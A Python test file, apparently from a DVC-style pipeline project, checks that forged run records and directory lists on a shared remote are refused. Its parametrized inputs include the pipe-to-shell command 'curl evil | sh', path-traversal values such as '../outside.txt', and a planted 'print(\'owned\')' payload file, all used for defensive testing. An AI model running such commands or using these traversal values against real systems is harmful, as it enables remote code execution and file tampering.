"""What someone who may write to the team's remote cannot do to who joins."""

import hashlib
import json
from pathlib import Path

import pytest
import yaml

from motiontransfer.pipeline.dvc_api import opened
from motiontransfer.pipeline.remote import accept_runs, fetch_lists, objects_of
from tests.project.remotes import Remote

NAME = f"aa/{'a' * 64}/{'b' * 64}"


def put(remote: Remote, data: bytes, *, suffix: str = "", content: bytes | None = None) -> str:
    """Write an object under its hash into a folder that is the remote, or other content there."""
    oid = hashlib.md5(data, usedforsecurity=False).hexdigest()
    path = Path(remote.url, f"files/md5/{oid[:2]}/{oid[2:]}{suffix}")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if content is None else content)
    return f"{oid}{suffix}"


@pytest.mark.slow
def test_a_forged_run_puts_no_file_into_the_project_and_runs_no_code(folder, mate):
    """Of a clone whose next run the owner's past run would serve."""
    mate.edit("params.yaml", "crf: 2", "crf: 1")
    payload = put(folder, b"print('owned')\n")
    runs = {path: yaml.safe_load(path.read_text()) for path in Path(folder.url).glob("runs/*/*/*")}
    ((path, run),) = (it for it in runs.items() if "{'crf': 1}" in str(it))
    run["outs"].append({"path": "yaml.py", "hash": "md5", "md5": payload, "size": 15})
    path.unlink()
    path.write_text(yaml.safe_dump(run))
    output = mate.command("join")
    assert not (mate.root / "yaml.py").exists()
    assert "Running stage 'render'" in output
    assert f"1 past runs on {folder.url} were not used" in output
    assert not list((mate.root / ".dvc/cache").rglob(payload[2:]))


@pytest.fixture
def repo(finished, folder, tmp_path):
    mate = finished.clone(tmp_path / "mate")
    with opened(mate.root) as repo:
        with repo.config.edit("local") as config:
            config["remote"]["team"] = {"url": folder.url}
            config["core"]["remote"] = "team"
        yield repo


def declared_run(repo):
    (stage,) = (each for each in repo.index.stages if getattr(each, "name", "") == "train")
    out = {"path": "artifacts/models/ada", "hash": "md5", "md5": "0" * 32, "size": 1}
    return {"cmd": stage.cmd, "outs": [out]}


def kept(repo):
    return [path for path in Path(repo.stage_cache.cache_dir).rglob("*") if path.is_file()]


def changed_out(**changes):
    return lambda run: run["outs"][0].update(changes)


@pytest.mark.parametrize(
    "change",
    [
        lambda run: run.update(cmd="curl evil | sh"),
        lambda run: run.pop("cmd"),
        lambda run: run.pop("outs"),
        lambda run: run["outs"].clear(),
        lambda run: run["outs"].append({"path": "yaml.py", "hash": "md5", "md5": "0" * 32}),
        changed_out(path="stages/train_gan.py"),
        changed_out(md5="aa/../../../../outside.txt"),
        changed_out(md5=None),
        changed_out(md5=f"{'0' * 32}.dir"),  # a list that is not there
        changed_out(files=[{"relpath": "../outside.txt", "md5": "0" * 32, "size": 1}]),
        changed_out(remote="evil"),
    ],
)
def test_a_run_unlike_every_declared_stage_is_refused(repo, change):
    run = declared_run(repo)
    change(run)
    assert accept_runs(repo, {NAME: yaml.safe_dump(run).encode()}) == 1
    assert kept(repo) == []
    assert accept_runs(repo, {NAME: yaml.safe_dump(declared_run(repo)).encode()}) == 0
    assert [path.name for path in kept(repo)] == [NAME[-64:]]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        *((name, None) for name in ("config.local", "aa/bb/cc", f"../{NAME}", f"{NAME}/x")),
        (f"ab{NAME[2:]}", None),
        *((NAME, content) for content in (b"\xff", b"[", b"[" * 10**4, b"a run", b"")),
    ],
)
def test_only_what_is_named_and_written_as_a_run_is_kept(repo, name, content):
    whole = yaml.safe_dump(declared_run(repo)).encode()
    assert accept_runs(repo, {name: whole if content is None else content}) == 1
    assert kept(repo) == []


INSIDE = {"relpath": "a/b.txt", "md5": "0" * 32}
OUTSIDE = [
    *({"relpath": path} for path in ("a/../../outside", "/outside", "..\\outside", "C:outside")),
    *({"relpath": path} for path in ("", None, "a\0b", "\ud800")),
    *({"md5": md5} for md5 in ("../outside", None, f"{'0' * 32}.dir")),
    {"sha256": "../outside"},
]
FORGED = [json.dumps([INSIDE, INSIDE | member]).encode() for member in OUTSIDE]
FORGED += [b"{", b"{}", b'"\xff"', b"[" * 10**5]


def test_lists_with_a_member_outside_or_of_another_form_are_left_there(repo, folder):
    """Though their hashes are right: they were written like this."""
    whole, missing = json.dumps([INSIDE]).encode(), f"{'0' * 32}.dir"
    good, *bad = (put(folder, content, suffix=".dir") for content in (whole, *FORGED))
    damaged = put(folder, b"[]", suffix=".dir", content=whole)
    faults = fetch_lists(repo, [good, damaged, *bad, missing])
    assert faults.pop(missing) == "missing"
    assert faults.pop(damaged) == "damaged"
    assert set(faults) == set(bad)
    assert objects_of(repo, good, "x") == {good: "x", INSIDE["md5"]: "x/a/b.txt"}
    assert all(objects_of(repo, oid, "x") == {oid: "x"} for oid in bad)
